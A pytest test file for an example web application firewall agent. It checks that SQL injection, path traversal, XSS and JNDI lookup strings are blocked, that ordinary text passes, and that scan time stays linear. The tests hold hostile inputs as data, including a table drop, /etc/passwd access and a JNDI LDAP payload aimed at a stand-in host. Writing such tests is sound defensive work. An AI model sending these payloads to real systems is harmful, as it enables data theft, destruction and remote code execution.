import pytest

from asgi_agents import AgentResponse, Block, Headers, RequestBodyChunkEvent, RequestHeadersEvent, RequestMetadata
from example_app.agents import Waf
from example_app.agents.waf_rules import CANDIDATE_RULES, RULES


async def _head(uri: str = "/", **headers: str) -> AgentResponse | None:
    metadata = RequestMetadata(
        correlation_id="1", request_id="1", client_ip="", client_port=0, protocol="HTTP/1.1", timestamp=""
    )
    fields = Headers({name: [value] for name, value in headers.items()})
    return await Waf().on_request_headers(RequestHeadersEvent(metadata=metadata, method="GET", uri=uri, headers=fields))


async def _body(data: bytes) -> AgentResponse | None:
    return await Waf().on_request_body_chunk(RequestBodyChunkEvent(correlation_id="1", data=data, is_last=True))


def _rules(response: AgentResponse | None) -> tuple[str, ...]:
    if response is None:
        return ()
    assert isinstance(response.decision, Block)
    assert response.decision.status == 403
    assert response.audit.tags[0] == "waf"
    return tuple(response.audit.rule_ids)


@pytest.mark.parametrize(
    ("query", "rule"),
    [
        ("1 UNION ALL SELECT password", "SQLI-01"),
        ("1+union%0aselect+1", "SQLI-01"),
        ("' or 1=1", "SQLI-02"),
        ("%2527%2520OR%2520%25271%2527%253D%25271", "SQLI-02"),
        ("1;drop table users", "SQLI-03"),
        ("../../boot", "TRAV-01"),
        ("..%5c..%5cboot", "TRAV-01"),
        ("/etc//passwd", "TRAV-02"),
        ("<ScRiPt>", "XSS-01"),
        ("<img src=x onerror = alert(1)>", "XSS-02"),
        ("JavaScript:alert(1)", "XSS-03"),
        ("${jndi:ldap://evil.example/a}", "JNDI-01"),
        ("${${::-j}ndi:ldap://evil.example/a}", "JNDI-01"),
    ],
)
async def test_attacks_are_found_in_uri_header_and_body(query: str, rule: str) -> None:
    assert _rules(await _head(f"/search?q={query}")) == (rule,)
    assert _rules(await _head(referer=query)) == (rule,)
    assert _rules(await _body(query.encode())) == (rule,)


async def test_json_escapes_hide_nothing() -> None:
    assert _rules(await _body(rb'{"note": "\u003cscript\u003E"}')) == ("XSS-01",)


async def test_all_broken_rules_are_named() -> None:
    response = await _body(b"<script>' or 1=1</script>")
    assert _rules(response) == ("SQLI-02", "XSS-01")
    assert response is not None
    assert response.audit.tags == ("waf", "sql-injection", "xss")


@pytest.mark.parametrize(
    "text",
    [
        "select a gift, or create one; drop us a line",
        "The union selected O'Reilly and Sons",
        "it's 'this' or 'that'",
        "see ./docs/../README.md",
        "1 < 2 and on load = off",
        "100% of ${price}",
        "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        '"Chromium";v="130", "Not/A)Brand";v="8"',
        "\x00\xff\xfe",
    ],
)
async def test_ordinary_text_passes(text: str) -> None:
    assert await _head(f"/search?q={text}", referer=text) is None
    assert await _body(text.encode()) is None


async def test_large_bodies_are_judged_as_small_ones_are() -> None:
    assert _rules(await _body(b"x" * 200_000 + b"<script>")) == ("XSS-01",)


@pytest.mark.parametrize("piece", ["'", "' or ", "union ", "; ", "../", "<a ", "${", "%25", "a", " "])
async def test_time_grows_with_the_length_and_not_faster(piece: str) -> None:
    # With the square of it this would take minutes.
    await _body(piece.encode() * (250_000 // len(piece)))


def test_rule_ids_are_unique() -> None:
    ids = [rule.id for rule in (*RULES, *CANDIDATE_RULES)]
    assert len(set(ids)) == len(ids)
